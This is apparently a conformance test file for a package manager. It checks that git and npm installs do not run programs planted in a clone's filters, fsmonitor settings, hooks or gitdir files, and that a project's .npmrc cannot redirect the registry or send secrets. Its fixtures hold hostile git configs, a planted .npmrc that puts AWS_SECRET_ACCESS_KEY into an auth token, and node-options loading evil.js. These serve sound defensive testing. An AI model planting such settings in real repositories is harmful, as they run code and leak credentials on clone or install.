// Package commands in a clone that wants more: repositories and settings of npm that somebody planted where git and npm look.
// git is the real one. npm is asked for the packages of a registry on this machine, which writes down what it is sent.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as crypto from "node:crypto";
import * as fs from "node:fs";
import * as http from "node:http";
import * as path from "node:path";

const STOLEN = "AKIAHOSTILECORPUS0001";
const GIT = ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "protocol.file.allow=always"];

function git(folder, ...words) {
  return execFileSync("git", [...GIT, ...words], { cwd: folder, encoding: "utf8", env: { PATH: process.env.PATH, HOME: folder, GIT_CONFIG_NOSYSTEM: "1" } }).trim();
}

/** A repository with a prompt, outside of the project. */
function repository(place, files = {}) {
  const at = path.join(place.root, "kit.git");
  fs.mkdirSync(at);
  for (const [name, text] of Object.entries({ "prompts/rev.md": "Review $1.", ...files })) {
    fs.mkdirSync(path.dirname(path.join(at, name)), { recursive: true });
    fs.writeFileSync(path.join(at, name), text);
  }
  git(at, "init", "-q");
  git(at, "add", "-A");
  git(at, "commit", "-q", "-m", "kit");
  return at;
}

/** A program of the attacker's; it leaves `stolen` in the project. */
function evil(place) {
  const at = path.join(place.root, "evil");
  fs.writeFileSync(at, `#!/bin/sh\ntouch ${place.at("stolen")}\nexec cat\n`);
  fs.chmodSync(at, 0o755);
  return at;
}

const trust = (place) => fs.writeFileSync(path.join(place.data, "trust.json"), JSON.stringify({ [fs.realpathSync(place.work)]: true }));
const installed = (place) => path.join(place.work, ".offshoot/packages/git/kit.example/u/r");

/** A clone where `offshoot install` would have put it, without a server: settings, record and folder. */
function planted(place, files) {
  const from = repository(place, files);
  const commit = git(from, "rev-parse", "HEAD");
  fs.mkdirSync(path.dirname(installed(place)), { recursive: true });
  execFileSync("cp", ["-r", from, installed(place)]);
  git(installed(place), "checkout", "-q", "--detach", commit);
  place.write(".offshoot/settings.json", JSON.stringify({ packages: ["git:https://kit.example/u/r"] }));
  trust(place);
  place.write(".offshoot/packages-lock.json", JSON.stringify({ version: 1, packages: { "git:kit.example/u/r": { commit } } }));
  return commit;
}

const inClone = (change) => (place) => {
  planted(place);
  change(installed(place), evil(place), place);
  // What git remembers of the files is old, so that it looks at them.
  fs.utimesSync(path.join(installed(place), "prompts/rev.md"), 1, 1);
};

const config = (folder, ...pairs) => pairs.forEach(([name, value]) => git(folder, "config", name, value));

/** What somebody may have put into a clone or around it. */
const PLANTED = {
  "a filter of the clone's settings and attributes": inClone((at, program) => {
    config(at, ["filter.x.clean", program]);
    fs.writeFileSync(path.join(at, ".git/info/attributes"), "* filter=x\n");
  }),
  "a filter of the clone's settings, and attributes among its files": inClone((at, program) => {
    config(at, ["filter.x.clean", program]);
    fs.writeFileSync(path.join(at, ".gitattributes"), "* filter=x\n");
  }),
  "a process filter": inClone((at, program) => {
    config(at, ["filter.x.process", program]);
    fs.writeFileSync(path.join(at, ".git/info/attributes"), "* filter=x\n");
  }),
  "a program that watches files": inClone((at, program) => config(at, ["core.fsmonitor", program])),
  "settings that include others": inClone((at, program, place) => {
    const more = path.join(place.root, "more");
    fs.writeFileSync(more, `[filter "x"]\n\tclean = ${program}\n`);
    config(at, ["include.path", more]);
    fs.writeFileSync(path.join(at, ".git/info/attributes"), "* filter=x\n");
  }),
  "settings of the worktree": inClone((at, program) => {
    config(at, ["extensions.worktreeConfig", "true"]);
    fs.writeFileSync(path.join(at, ".git/config.worktree"), `[filter "x"]\n\tclean = ${program}\n`);
    fs.writeFileSync(path.join(at, ".git/info/attributes"), "* filter=x\n");
  }),
  "hooks": inClone((at, program) => {
    for (const name of ["post-index-change", "fsmonitor-watchman", "query-watchman", "post-checkout", "reference-transaction"]) fs.copyFileSync(program, path.join(at, ".git/hooks", name));
    config(at, ["core.fsmonitor", ".git/hooks/query-watchman"], ["core.hooksPath", ".git/hooks"]);
  }),
  "a nested repository with a program": inClone((at, program) => {
    const inner = path.join(at, "inner");
    fs.mkdirSync(inner);
    git(inner, "init", "-q");
    fs.writeFileSync(path.join(inner, "x"), "x");
    git(inner, "add", "-A");
    git(inner, "commit", "-q", "-m", "x");
    git(at, "add", "inner");
    git(at, "commit", "-q", "-m", "inner");
    config(inner, ["core.fsmonitor", program]);
  }),
  "a .git that names a repository elsewhere": inClone((at, program, place) => {
    const other = path.join(place.root, "other");
    fs.renameSync(path.join(at, ".git"), other);
    config(other, ["core.bare", "false"], ["core.worktree", at], ["core.fsmonitor", program]);
    fs.writeFileSync(path.join(at, ".git"), `gitdir: ${other}\n`);
  }),
  "no repository in it, and one around it": inClone((at, program, place) => {
    fs.rmSync(path.join(at, ".git"), { recursive: true });
    git(place.work, "init", "-q");
    config(place.work, ["core.fsmonitor", program], ["filter.x.clean", program]);
    git(place.work, "add", "-f", "-A");
    git(place.work, "commit", "-q", "-m", "all");
    fs.writeFileSync(place.at(".git/info/attributes"), "* filter=x\n");
  }),
};

const removing = Object.entries(PLANTED).map(([name, plant]) => ({
  group: "package",
  name: `remove, update and install with ${name}`,
  promise: "git runs nothing that the clone or the project names",
  async run(place) {
    plant(place);
    fs.rmSync(place.at("stolen"), { force: true });
    for (const words of [["packages"], ["update", "-l", "--yes"], ["install", "-l", "--yes"], ["remove", "-l", "git:https://kit.example/u/r"]]) {
      await place.offshoot(words, { env: { GIT_ALLOW_PROTOCOL: "file" } });
      assert.ok(!fs.existsSync(place.at("stolen")), `${words.join(" ")} ran a program of the clone`);
    }
  },
}));

/** What the fetched repository or the project around says about fetching. */
const fetching = [
  ["attributes of the fetched repository", { ".gitattributes": "* filter=x\n" }, () => {}],
  ["settings of the project's repository", {}, (place) => (git(place.work, "init", "-q"), config(place.work, ["filter.x.smudge", evil(place)], ["core.sshCommand", evil(place)], ["core.fsmonitor", evil(place)]))],
].map(([name, files, around]) => ({
  group: "package",
  name: `install of a repository with ${name}`,
  promise: "nothing of the project or of the repository runs, and the package is installed",
  async run(place) {
    const program = evil(place);
    const from = repository(place, files);
    around(place);
    // A filter of the user's, which only the user may choose to run.
    fs.writeFileSync(path.join(place.home, ".gitconfig"), `[filter "x"]\n\tsmudge = ${program}\n\tclean = cat\n[url "${from}"]\n\tinsteadOf = https://kit.example/u/r\n[protocol "file"]\n\tallow = always\n`);
    const { code, stderr } = await place.offshoot(["install", "-l", "--yes", "git:https://kit.example/u/r"]);
    assert.equal(code, 0, stderr);
    assert.ok(fs.existsSync(path.join(installed(place), "prompts/rev.md")), "the user's own settings count");
    assert.ok(!fs.existsSync(place.at("stolen")), "a program ran");
    const removed = await place.offshoot(["remove", "-l", "git:https://kit.example/u/r"]);
    assert.equal(removed.code, 0, removed.stderr);
    assert.ok(!fs.existsSync(installed(place)), "it is gone");
  },
}));

/** A registry with one package; everything that it is sent is in `asked`. */
async function registry(asked) {
  const server = http.createServer((request, response) => {
    const base = `http://127.0.0.1:${server.address().port}`;
    asked.push(`${request.url} ${JSON.stringify(request.headers)}`);
    if (request.url.endsWith(".tgz")) return response.end(archive);
    const integrity = `sha512-${crypto.createHash("sha512").update(archive).digest("base64")}`;
    const version = (number) => ({ name: "kit", version: number, dist: { tarball: `${base}/kit-${number}.tgz`, integrity } });
    response.end(JSON.stringify({ name: "kit", "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version("1.0.0") } }));
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return server;
}

const archive = (() => {
  const folder = fs.mkdtempSync("/tmp/offshoot-conformance-kit-");
  fs.mkdirSync(path.join(folder, "package/prompts"), { recursive: true });
  fs.writeFileSync(path.join(folder, "package/package.json"), '{"name":"kit","version":"1.0.0"}');
  fs.writeFileSync(path.join(folder, "package/prompts/rev.md"), "Review $1.");
  execFileSync("tar", ["czf", "kit.tgz", "package"], { cwd: folder });
  const bytes = fs.readFileSync(path.join(folder, "kit.tgz"));
  fs.rmSync(folder, { recursive: true });
  return bytes;
})();

const NPMRC = (url) => `registry=${url}/\n//${new URL(url).host}/:_authToken=\${AWS_SECRET_ACCESS_KEY}\nnode-options=--require ./evil.js\n`;

/** Where the settings of npm lie, and whether they are the user's. */
const SETTINGS_OF_NPM = [
  ["in the project", (place, url) => place.write(".npmrc", NPMRC(url)), false],
  ["in the project with a manifest", (place, url) => (place.write("package.json", '{"name":"p"}'), place.write(".npmrc", NPMRC(url))), false],
  ["in a project whose workspaces are the packages", (place, url) => (place.write("package.json", '{"name":"p","workspaces":[".offshoot/packages/*",".offshoot/packages/.*"]}'), place.write(".npmrc", NPMRC(url))), false],
  ["in .offshoot", (place, url) => (place.write(".offshoot/package.json", '{"name":"p"}'), place.write(".offshoot/.npmrc", NPMRC(url))), false],
  ["among the packages", (place, url) => (place.write(".offshoot/packages/package.json", '{"name":"p"}'), place.write(".offshoot/packages/.npmrc", NPMRC(url))), false],
  ["in the home folder", (place, url) => fs.writeFileSync(path.join(place.home, ".npmrc"), NPMRC(url).replace(/node-options.*\n/, "")), true],
];

const asking = SETTINGS_OF_NPM.map(([name, write, isUsers]) => ({
  group: "package",
  name: `install from npm with settings of npm ${name}`,
  promise: isUsers ? "the user's own settings count, with the variables that they name" : "no registry of the project's is asked, and no variable is sent",
  async run(place) {
    const [theirs, ours] = [[], []];
    const [foreign, own] = [await registry(theirs), await registry(ours)];
    try {
      const url = (server) => `http://127.0.0.1:${server.address().port}`;
      fs.writeFileSync(path.join(place.home, ".npmrc"), `registry=${url(own)}/\n`);
      write(place, url(foreign));
      place.write("evil.js", `require("fs").writeFileSync(${JSON.stringify(place.at("stolen"))}, "")`);
      const env = { AWS_SECRET_ACCESS_KEY: STOLEN, OTHER_SECRET: STOLEN, npm_config_cache: path.join(place.root, "cache") };
      // Node.js takes room that it does not use.
      const { code, stderr } = await place.offshoot(["install", "-l", "--yes", "npm:kit"], { env, unlimited: true });
      assert.equal(code, 0, stderr);
      assert.ok(!fs.existsSync(place.at("stolen")), "the project's program ran");
      if (isUsers) assert.ok(theirs.some((request) => request.includes(STOLEN)), "the user's registry got the user's token");
      else {
        assert.deepEqual(theirs, [], "a registry of the project was asked");
        assert.ok(ours.length > 0 && ours.every((request) => !request.includes(STOLEN)), "a secret was sent");
      }
    } finally {
      for (const server of [foreign, own]) server.close();
    }
  },
}));

export const PACKAGES = [...removing, ...fetching, ...asking];
